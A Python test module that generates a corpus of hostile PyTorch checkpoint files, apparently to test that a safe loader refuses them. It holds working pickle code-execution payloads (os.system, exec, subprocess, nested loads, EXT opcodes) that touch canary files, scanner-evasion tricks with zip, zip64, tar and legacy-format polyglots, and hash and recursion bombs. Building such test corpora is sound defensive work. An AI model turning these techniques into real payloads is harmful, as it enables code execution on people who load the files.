"""A corpus of hostile torch files, one per attack technique, each touching a canary if executed.

``build_corpus(folder)`` writes every case and returns them. Cases marked ``live`` really do
touch their canary when PyTorch itself loads them with ``weights_only=False`` (a test proves
it in a subprocess), so refusing them is a real defence, not a formality. The other cases
attack the container or the reader's bounds rather than running code.
"""

from __future__ import annotations

import contextlib
import gzip
import os
import shlex
import struct
import tarfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Iterator

try:
    from torch_files import (
        LEGACY_MAGIC, Raw, call, call_value, dict_pickle, enc, end_record, glob, legacy_file, state_dict_pickle,
        tensor_expr, torch_records, torch_zip, write_zip, zip64_end, zip_parts,
    )
except ImportError:  # imported as formats.malicious from another test folder
    from formats.torch_files import (
        LEGACY_MAGIC, Raw, call, call_value, dict_pickle, enc, end_record, glob, legacy_file, state_dict_pickle,
        tensor_expr, torch_records, torch_zip, write_zip, zip64_end, zip_parts,
    )


@dataclass
class Case:
    name: str
    technique: str
    path: Path
    canary: Path
    live: bool
    extension: tuple[str, str, int] | None = None  # copyreg registration a victim process would have


def _touch(canary: Path) -> str:
    return f"touch {shlex.quote(str(canary))}"


def _code(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _system(canary: Path) -> Raw:
    return call("os", "system", _touch(canary))


def _payloads(canary: Path, folder: Path) -> list[tuple[str, str, Raw, int, tuple | None]]:
    """(name, technique, expression, protocol, extension) for payloads placed inside a state dict."""
    touch, code = _touch(canary), _code(canary)
    inner = b"\x80\x02" + _system(canary).data + b"."
    inner_file = folder / f"inner-{canary.name}.bin"  # written by build_corpus for the numpy.load case
    path_obj = Raw(glob("pathlib", "PosixPath") + enc((str(canary),)) + b"\x81")
    path_obj_ex = Raw(glob("pathlib", "PosixPath") + enc((str(canary),)) + b"}\x92")
    memo_names = Raw(enc("os") + b"r" + struct.pack("<I", 9001) + b"0" + enc("system") + b"r"
                     + struct.pack("<I", 9002) + b"0" + b"j" + struct.pack("<I", 9001) + b"j"
                     + struct.pack("<I", 9002) + b"\x93")
    return [
        ("reduce_os_system", "os.system via GLOBAL + REDUCE", _system(canary), 2, None),
        ("reduce_posix_system", "posix.system (os under its real module name)", call("posix", "system", touch), 2, None),
        ("reduce_builtins_exec", "builtins.exec of source text", call("builtins", "exec", code), 2, None),
        ("reduce_builtins_eval", "builtins.eval of an expression", call("builtins", "eval", code), 2, None),
        ("reduce_py2_builtin_eval", "__builtin__.eval (Python 2 module name)", call("__builtin__", "eval", code), 2, None),
        ("subprocess_check_call", "subprocess.check_call", call("subprocess", "check_call", ["touch", str(canary)]), 2, None),
        ("inst_opcode", "INST opcode (import and call in one opcode)", Raw(b"(" + enc(touch) + b"ios\nsystem\n"), 2, None),
        ("obj_opcode", "OBJ opcode", Raw(b"(" + glob("os", "system") + enc(touch) + b"o"), 2, None),
        ("newobj_getattr", "NEWOBJ of pathlib.PosixPath + getattr(.., 'touch')",
         call_value(call("builtins", "getattr", path_obj, "touch")), 2, None),
        ("newobj_ex_getattr", "NEWOBJ_EX of pathlib.PosixPath + getattr",
         call_value(call("builtins", "getattr", path_obj_ex, "touch")), 4, None),
        ("stack_global_dotted", "STACK_GLOBAL torch + 'serialization.os.system' (attribute walk)",
         Raw(enc("torch") + enc("serialization.os.system") + b"\x93" + enc((touch,)) + b"R"), 4, None),
        ("global_dotted_proto4", "GLOBAL with a dotted name under protocol 4",
         Raw(glob("torch", "serialization.os.system") + enc((touch,)) + b"R"), 4, None),
        ("stack_global_memo", "STACK_GLOBAL whose names come from the memo",
         Raw(memo_names.data + enc((touch,)) + b"R"), 4, None),
        ("getattr_import_chain", "getattr(__import__('os'), 'system')",
         call_value(call("builtins", "getattr", call("builtins", "__import__", "os"), "system"), touch), 2, None),
        ("importlib_import_module", "importlib.import_module + getattr",
         call_value(call("builtins", "getattr", call("importlib", "import_module", "os"), "system"), touch), 2, None),
        ("nested_pickle_loads", "pickle.loads of a second pickle", call("pickle", "loads", inner), 2, None),
        ("nested_c_pickle_loads", "_pickle.loads of a second pickle", call("_pickle", "loads", inner), 2, None),
        ("nested_numpy_load", "numpy.load(allow_pickle=True) of a second file",
         call("numpy", "load", str(inner_file), None, True), 2, None),
        ("file_write_open", "builtins.open(path, 'w')", call("builtins", "open", str(canary), "w"), 2, None),
        ("io_open", "io.open(path, 'w')", call("io", "open", str(canary), "w"), 2, None),
        ("shutil_copyfile", "shutil.copyfile onto a new path", call("shutil", "copyfile", "/dev/null", str(canary)), 2, None),
        ("os_makedirs", "os.makedirs", call("os", "makedirs", str(canary)), 2, None),
        ("runpy_run_code", "runpy._run_code", call("runpy", "_run_code", code, Raw(b"}")), 2, None),
        ("timeit_timeit", "timeit.timeit of source text",
         call("timeit", "timeit", code, "pass", Raw(glob("time", "perf_counter")), 1), 2, None),
        ("cprofile_run", "cProfile.run of source text", call("cProfile", "run", code), 2, None),
        ("functools_partial", "functools.partial(os.system, cmd)()",
         call_value(call("functools", "partial", Raw(glob("os", "system")), touch)), 2, None),
        ("operator_methodcaller", "operator.methodcaller('system', cmd)(os)",
         call_value(call("operator", "methodcaller", "system", touch), call("builtins", "__import__", "os")), 2, None),
        ("copyreg_reconstructor", "copyreg._reconstructor(subprocess.Popen, subprocess.Popen, argv)",
         call("copyreg", "_reconstructor", Raw(glob("subprocess", "Popen")), Raw(glob("subprocess", "Popen")),
              ["touch", str(canary)]), 2, None),
        ("placeholder_state_payload", "payload inside an allowed placeholder's BUILD state",
         Raw(glob("argparse", "Namespace") + b")\x81}(" + enc("x") + _system(canary).data + b"ub"), 2, None),
        ("payload_in_tensor_hooks", "payload as a tensor's backward_hooks argument",
         tensor_expr(hooks=_system(canary)), 2, None),
        ("payload_popped", "payload whose result is POPped (hidden from AST scanners)",
         Raw(_system(canary).data + b"0" + enc(1)), 2, None),
        ("payload_pop_mark", "payload inside MARK ... POP_MARK", Raw(b"(" + _system(canary).data + b"1" + enc(1)), 2, None),
        ("ext1", "EXT1 extension code", Raw(b"\x82\x42" + enc((touch,)) + b"R"), 2, ("os", "system", 0x42)),
        ("ext2", "EXT2 extension code", Raw(b"\x83" + struct.pack("<H", 0x4243) + enc((touch,)) + b"R"), 2,
         ("os", "system", 0x4243)),
        ("ext4", "EXT4 extension code", Raw(b"\x84" + struct.pack("<i", 0x42434445) + enc((touch,)) + b"R"), 2,
         ("os", "system", 0x42434445)),
    ]


def _legacy_tensor() -> Raw:
    pid = b"(" + enc("storage") + glob("torch", "FloatStorage") + enc("0") + enc("cpu") + enc(4) + b"NtQ"
    return Raw(glob("torch._utils", "_rebuild_tensor_v2") + b"(" + pid + enc(0) + enc((4,)) + enc((1,))
               + enc(False) + call("collections", "OrderedDict").data + b"tR")


def _legacy_storages() -> dict[str, tuple[int, bytes]]:
    return {"0": (4, struct.pack("<4f", 1, 2, 3, 4))}


def build_corpus(folder: Path) -> list[Case]:
    """Write every hostile file into ``folder`` and describe it."""
    folder.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def add(name: str, technique: str, live: bool, write: Callable[[Path, Path], Path], suffix: str = ".ckpt",
            extension: tuple | None = None) -> None:
        canary = folder / f"canary-{name}"
        path = write(folder / f"{name}{suffix}", canary)
        cases.append(Case(name, technique, path, canary, live, extension))

    probe = folder / "canary-probe"
    for name, technique, _, proto, extension in _payloads(probe, folder):
        def write(path: Path, canary: Path, name: str = name, proto: int = proto) -> Path:
            payload = {n: p for n, _, p, _, _ in _payloads(canary, folder)}[name]
            if name == "nested_numpy_load":
                (folder / f"inner-{canary.name}.bin").write_bytes(b"\x80\x02" + _system(canary).data + b".")
            return torch_zip(path, state_dict_pickle([("evil", payload)], proto))
        add(name, technique, True, write, extension=extension)

    def as_key(path: Path, canary: Path) -> Path:
        return torch_zip(path, dict_pickle([("weight", tensor_expr()), (_system(canary), 1)]))
    add("payload_as_dict_key", "payload used as a dict key", True, as_key)

    def proto0(path: Path, canary: Path) -> Path:
        return torch_zip(path, b"cos\nsystem\n(S'" + _touch(canary).encode() + b"'\ntR.")
    add("protocol0_classic", "the classic protocol-0 text pickle", True, proto0)

    def truncated(path: Path, canary: Path) -> Path:
        return torch_zip(path, b"\x80\x02}(" + enc("evil") + _system(canary).data)
    add("truncated_after_payload", "payload, then a broken stream (nullifAI)", True, truncated)

    def deep(path: Path, canary: Path) -> Path:
        return torch_zip(path, b"\x80\x02" + b"(" * 5000 + _system(canary).data + b"1" * 5000 + b"}.")
    add("deep_nesting_payload", "payload under 5000 nested MARKs", True, deep)

    def compressed(path: Path, canary: Path) -> Path:
        return torch_zip(path, state_dict_pickle([("evil", _system(canary))]), compress={"data.pkl"})
    add("compressed_data_pkl", "payload in a DEFLATE-compressed data.pkl", True, compressed)

    def other_prefix(path: Path, canary: Path) -> Path:
        return write_zip(path, [("evil/data.pkl", state_dict_pickle([("evil", _system(canary))])),
                                ("evil/data/0", struct.pack("<4f", 1, 2, 3, 4)), ("evil/version", b"3\n"),
                                ("archive/data.pkl", state_dict_pickle()),
                                ("archive/data/0", struct.pack("<4f", 1, 2, 3, 4)), ("archive/version", b"3\n")])
    add("second_pickle_other_prefix", "a second data.pkl under another archive folder", False, other_prefix)

    def duplicate(path: Path, canary: Path) -> Path:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            return write_zip(path, [("archive/data.pkl", state_dict_pickle([("evil", _system(canary))])),
                                    ("archive/data/0", struct.pack("<4f", 1, 2, 3, 4)),
                                    ("archive/version", b"3\n"),
                                    ("archive/data.pkl", state_dict_pickle())])
    add("duplicate_data_pkl", "two records named data.pkl: torch runs the first, zipfile shows the last", True,
        duplicate)

    def extra_record(path: Path, canary: Path) -> Path:
        return torch_zip(path, state_dict_pickle(), extra=[("archive/extra.pkl",
                                                            b"\x80\x02" + _system(canary).data + b".")])
    add("extra_pickle_record", "an extra .pkl record a scanner might skip", False, extra_record)

    def torchscript(path: Path, canary: Path) -> Path:
        return torch_zip(path, state_dict_pickle(), extra=[
            ("archive/constants.pkl", b"\x80\x02" + _system(canary).data + b"."), ("archive/code/m.py", b"")])
    add("torchscript_archive", "a TorchScript archive (constants.pkl, code/)", False, torchscript)

    def junk(path: Path, canary: Path) -> Path:
        torch_zip(path, state_dict_pickle([("evil", _system(canary))]))
        path.write_bytes(b"#!/bin/sh\nexit 0\n" + path.read_bytes())
        return path
    add("leading_junk_zip", "bytes before the first zip record (self-extracting style)", False, junk)

    # The legacy stream: every one of the five pickles is a place to hide a payload.
    def legacy_main(path: Path, canary: Path) -> Path:
        return legacy_file(path, dict_pickle([("weight", _legacy_tensor()), ("evil", _system(canary))]),
                           _legacy_storages())
    add("legacy_main_payload", "payload in the legacy stream's object pickle", True, legacy_main, ".pt")

    def legacy_magic(path: Path, canary: Path) -> Path:
        magic = b"\x80\x02" + enc(LEGACY_MAGIC) + b"0" + _system(canary).data + b"0" + enc(LEGACY_MAGIC) + b"."
        return legacy_file(path, dict_pickle([("weight", _legacy_tensor())]), _legacy_storages(), magic=magic)
    add("legacy_magic_payload", "payload in the legacy magic-number pickle", True, legacy_magic, ".pt")

    def legacy_sys_info(path: Path, canary: Path) -> Path:
        info = dict_pickle([("protocol_version", 1001), ("little_endian", True),
                            ("type_sizes", Raw(b"}(" + enc("short") + enc(2) + enc("int") + enc(4) + enc("long")
                                               + enc(4) + b"u")), ("evil", _system(canary))])
        return legacy_file(path, dict_pickle([("weight", _legacy_tensor())]), _legacy_storages(), sys_info=info)
    add("legacy_sys_info_payload", "payload in the legacy system-info pickle", True, legacy_sys_info, ".pt")

    def legacy_keys(path: Path, canary: Path) -> Path:
        keys = b"\x80\x02" + _system(canary).data + b"0" + enc(["0"]) + b"."
        return legacy_file(path, dict_pickle([("weight", _legacy_tensor())]), _legacy_storages(), key_list=keys)
    add("legacy_key_list_payload", "payload in the legacy storage-key pickle", True, legacy_keys, ".pt")

    def polyglot(path: Path, canary: Path) -> Path:
        legacy_file(path, dict_pickle([("weight", _legacy_tensor())]), _legacy_storages())
        hidden = folder / f"hidden-{canary.name}.zip"
        torch_zip(hidden, state_dict_pickle([("evil", _system(canary))]))
        path.write_bytes(path.read_bytes() + hidden.read_bytes())
        hidden.unlink()
        return path
    add("polyglot_legacy_zip", "a legacy file with a hostile zip appended (zip readers see the zip)", False,
        polyglot, ".pt")

    def gzipped(path: Path, canary: Path) -> Path:
        path.write_bytes(gzip.compress(b"\x80\x02" + _system(canary).data + b"."))
        return path
    add("gzip_wrapped_pickle", "a gzip-compressed pickle (container a scanner skips)", False, gzipped)

    def bare_pickle(path: Path, canary: Path) -> Path:
        path.write_bytes(b"\x80\x02" + _system(canary).data + b".")
        return path
    add("bare_pickle", "a plain pickle named .pt", False, bare_pickle, ".pt")

    # Bounds and structure: no code, but reading these carelessly reads or writes outside the file.
    def oob(path: Path, canary: Path) -> Path:
        return torch_zip(path, dict_pickle([("weight", tensor_expr(offset=100))]))
    add("storage_offset_out_of_bounds", "a view starting past its storage", False, oob)

    def overflow(path: Path, canary: Path) -> Path:
        return torch_zip(path, dict_pickle([("weight", tensor_expr(size=(2**40, 2**40), stride=(1, 1)))]))
    add("shape_stride_overflow", "shape x stride far beyond the storage", False, overflow)

    def negative(path: Path, canary: Path) -> Path:
        return torch_zip(path, dict_pickle([("weight", tensor_expr(size=(4,), stride=(-1,), offset=3))]))
    add("negative_stride", "a negative stride", False, negative)

    def size_lie(path: Path, canary: Path) -> Path:
        return torch_zip(path, dict_pickle([("weight", tensor_expr(numel=1_000_000, size=(1_000_000,)))]))
    add("storage_size_mismatch", "a storage claiming more elements than its record holds", False, size_lie)

    def missing(path: Path, canary: Path) -> Path:
        return torch_zip(path, dict_pickle([("weight", tensor_expr(key="7"))]))
    add("missing_storage", "a storage key with no record", False, missing)

    def cut(path: Path, canary: Path) -> Path:
        torch_zip(path, state_dict_pickle())
        path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
        return path
    add("truncated_archive", "an archive cut in half", False, cut)

    def corrupt_directory(path: Path, canary: Path) -> Path:
        torch_zip(path, state_dict_pickle())
        data = bytearray(path.read_bytes())
        at = data.rfind(b"PK\x01\x02")
        data[at + 20:at + 24] = b"\xff\xff\xff\x7f"  # compressed size
        path.write_bytes(bytes(data))
        return path
    add("corrupt_central_directory", "a central directory that disagrees with the local header", False,
        corrupt_directory)

    def trailing(path: Path, canary: Path) -> Path:
        return torch_zip(path, state_dict_pickle() + b"\x80\x02" + _system(canary).data + b".")
    add("pickle_after_stop", "a second pickle after STOP in data.pkl", False, trailing)

    def nested_dicts(path: Path, canary: Path) -> Path:
        body = b"\x80\x02" + b"}(" + enc("a") * 1 + b"".join([b"}(" + enc("a")] * 300) + tensor_expr().data \
            + b"u" * 301 + b"."
        return torch_zip(path, body)
    add("deep_dict_nesting", "dicts nested 300 deep", False, nested_dicts)

    def deep_tuple_key(path: Path, canary: Path) -> Path:
        key = enc(0) + b"\x85" * 200_000  # hashing this crashes CPython (C recursion)
        return torch_zip(path, b"\x80\x02}(" + enc("weight") + tensor_expr().data + key + enc(1) + b"u.")
    add("deep_tuple_key", "a dict key nested 200,000 tuples deep", False, deep_tuple_key)

    def shared_tuple_key(path: Path, canary: Path) -> Path:
        key = enc(0) + b"2\x86" * 80  # t = (t, t) eighty times: 2**80 leaves to hash
        return torch_zip(path, b"\x80\x02}(" + enc("weight") + tensor_expr().data + key + enc(1) + b"u.")
    add("shared_tuple_key", "a dict key of exponentially shared tuples", False, shared_tuple_key)

    def shared_dict_bomb(path: Path, canary: Path) -> Path:
        body = b"}(" + enc("w") + tensor_expr().data + b"uq\x000"
        for level in range(1, 41):
            body += b"}(" + enc("a") + b"h" + bytes([level - 1]) + enc("b") + b"h" + bytes([level - 1]) + b"uq" \
                + bytes([level]) + (b"0" if level < 40 else b"")
        return torch_zip(path, b"\x80\x02" + body + b".")
    add("shared_dict_bomb", "dicts shared 40 levels deep: 2**40 tensor names", False, shared_dict_bomb)
    _add_container_ambiguities(add)
    return cases


def _two_directories(canary: Path) -> tuple[bytes, list, int, list, int, int]:
    """A benign and a hostile torch archive's records back to back, then both central directories.

    Returns the bytes so far, and (records, directory size, directory offset) of each archive.
    """
    benign = torch_records(state_dict_pickle())
    hostile = torch_records(state_dict_pickle([("evil", _system(canary))]))
    benign_local, benign_central = zip_parts(benign)
    hostile_local, hostile_central = zip_parts(hostile, len(benign_local))
    benign_at = len(benign_local) + len(hostile_local)
    hostile_at = benign_at + len(benign_central)
    body = benign_local + hostile_local + benign_central + hostile_central
    return body, benign, len(benign_central), hostile, len(hostile_central), hostile_at


def _tar_block(name: str, size: int, lead: bytes = b"") -> bytes:
    """A ustar header block whose first bytes are ``lead`` (bytes another format needs there)."""
    info = tarfile.TarInfo(name)
    info.size, info.mode = size, 0o644
    block = bytearray(info.tobuf(format=tarfile.USTAR_FORMAT))
    block[:len(lead)] = lead
    block[148:156] = b" " * 8
    block[148:155] = b"%06o\0" % sum(block)
    return bytes(block)


def _add_container_ambiguities(add: Callable) -> None:
    """Files that two readers torch uses (miniz, zipfile, tarfile) would read as different things."""

    def zip64_second_directory(path: Path, canary: Path) -> Path:
        body, benign, benign_size, hostile, hostile_size, hostile_at = _two_directories(canary)
        benign_at = hostile_at - benign_size
        path.write_bytes(body + zip64_end(len(hostile), hostile_size, hostile_at, len(body))
                         + end_record(len(benign), benign_size, benign_at))
        return path
    add("zip64_second_directory", "the plain end record names a benign central directory, the zip64 locator "
        "a hostile one (torch follows the locator)", True, zip64_second_directory)

    def end_record_in_comment(path: Path, canary: Path) -> Path:
        body, benign, benign_size, hostile, hostile_size, hostile_at = _two_directories(canary)
        hidden = end_record(len(hostile), hostile_size, hostile_at)
        path.write_bytes(body + end_record(len(benign), benign_size, hostile_at - benign_size, hidden + b"\0"))
        return path
    add("end_record_in_comment", "a second end record inside the first one's comment (torch takes the last "
        "signature)", True, end_record_in_comment)

    def legacy_tar(path: Path, canary: Path) -> Path:
        # The system-info dict's first value is a string laid over the file so that bytes 0-1536 are
        # also a tar: a first header (its name the pickles before the string), then a "storages"
        # member, which torch.load reads as a tar before it tries the legacy pickles.
        magic = b"\x80\x02" + enc(LEGACY_MAGIC) + b"."
        version = b"\x80\x02" + enc(1001) + b"."
        opening = b"\x80\x02}(" + enc("pad") + b"X"
        lead_length = len(magic) + len(version) + len(opening) + 4
        payload = b"cos\nsystem\n(V" + _touch(canary).encode() + b"\ntR."
        members = _tar_block("storages", len(payload)) + payload.ljust(-(-len(payload) // 512) * 512, b"\0")
        text_length = 512 - lead_length + len(members) + 512  # up to the first header's end, members, end block
        lead = magic + version + opening + struct.pack("<I", text_length)
        text = _tar_block("x", 0, lead)[lead_length:] + members + b"\0" * 512
        sys_info = opening + struct.pack("<I", len(text)) + text + enc("protocol_version") + enc(1001) \
            + enc("little_endian") + enc(True) + enc("type_sizes") \
            + Raw(b"}(" + enc("short") + enc(2) + enc("int") + enc(4) + enc("long") + enc(4) + b"u").data + b"u."
        return legacy_file(path, dict_pickle([("weight", _legacy_tensor())]), _legacy_storages(), magic=magic,
                           version=version, sys_info=sys_info)
    add("legacy_tar_polyglot", "a legacy file whose first bytes are also a tar archive with a hostile "
        "'storages' member (torch tries tar first)", True, legacy_tar, ".pt")

    def bytes_before_end(path: Path, canary: Path) -> Path:
        records = torch_records(state_dict_pickle())
        local, central = zip_parts(records)
        path.write_bytes(local + central + b"\0" * 16 + end_record(len(records), len(central), len(local)))
        return path
    add("bytes_before_end_record", "bytes between the central directory and the end record", False,
        bytes_before_end)

    def unlisted_record(path: Path, canary: Path) -> Path:
        records = torch_records(state_dict_pickle())
        first, _ = zip_parts(records[:1])
        hidden, _ = zip_parts([("archive/data.pkl", b"\x80\x02" + _system(canary).data + b".")], len(first))
        rest, rest_central = zip_parts(records[1:], len(first) + len(hidden))
        _, first_central = zip_parts(records[:1])
        central = first_central + rest_central
        path.write_bytes(first + hidden + rest + central + end_record(len(records), len(central),
                                                                      len(first + hidden + rest)))
        return path
    add("unlisted_record_in_gap", "a record between two others that the central directory does not list",
        False, unlisted_record)

    def split_signature(path: Path, canary: Path) -> Path:
        records = torch_records(state_dict_pickle())
        local, central = zip_parts(records)
        path.write_bytes(local + central + end_record(len(records), len(central), len(local),
                                                      b"PK\x05\x06" + b"\0" * 8))
        return path
    add("end_signature_in_comment", "an end-record signature in the comment, too short to be a record "
        "(zipfile takes it, miniz skips it)", False, split_signature)

    def huge(field: str) -> Callable[[Path, Path], Path]:
        def write(path: Path, canary: Path) -> Path:
            records = torch_records(state_dict_pickle())
            local, central = zip_parts(records)
            cd_offset, cd_size, entries = len(local), len(central), len(records)
            if field == "entry":  # the first record's offset moved into a zip64 field holding 2**63
                at = 46 + len(records[0][0])
                extra = struct.pack("<HHQ", 1, 8, 2**63)
                central = central[:42] + b"\xff\xff\xff\xff" + central[46:at] + extra + central[at:]
                central = central[:30] + struct.pack("<H", len(extra)) + central[32:]
                cd_size = len(central)
            values = {"offset": (entries, cd_size, 2**63), "size": (entries, 2**63, cd_offset),
                      "entries": (2**63, cd_size, cd_offset), "entry": (entries, cd_size, cd_offset)}[field]
            body = local + central
            path.write_bytes(body + zip64_end(*values, len(body)) + end_record(*values))
            return path
        return write
    for field in ("offset", "size", "entries", "entry"):
        add(f"zip64_huge_{field}", f"a zip64 {field} of 2**63", False, huge(field))


@contextlib.contextmanager
def fifo_never_opened(path: Path) -> Iterator[Path]:
    """A FIFO at ``path`` that must not be opened for reading while the block runs.

    A probe opens its writing end whenever a reader appears (that open succeeds only then), so a
    reader that should never have opened it sees end of file instead of hanging, and the test fails.
    """
    os.mkfifo(path)
    opened: list[bool] = []
    stop = threading.Event()

    def probe() -> None:
        while not stop.is_set():
            try:
                fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                time.sleep(0.01)
                continue
            opened.append(True)
            os.close(fd)

    thread = threading.Thread(target=probe, daemon=True)
    thread.start()
    try:
        yield path
    finally:
        stop.set()
        thread.join()
    assert not opened, f"{path.name} was opened for reading"
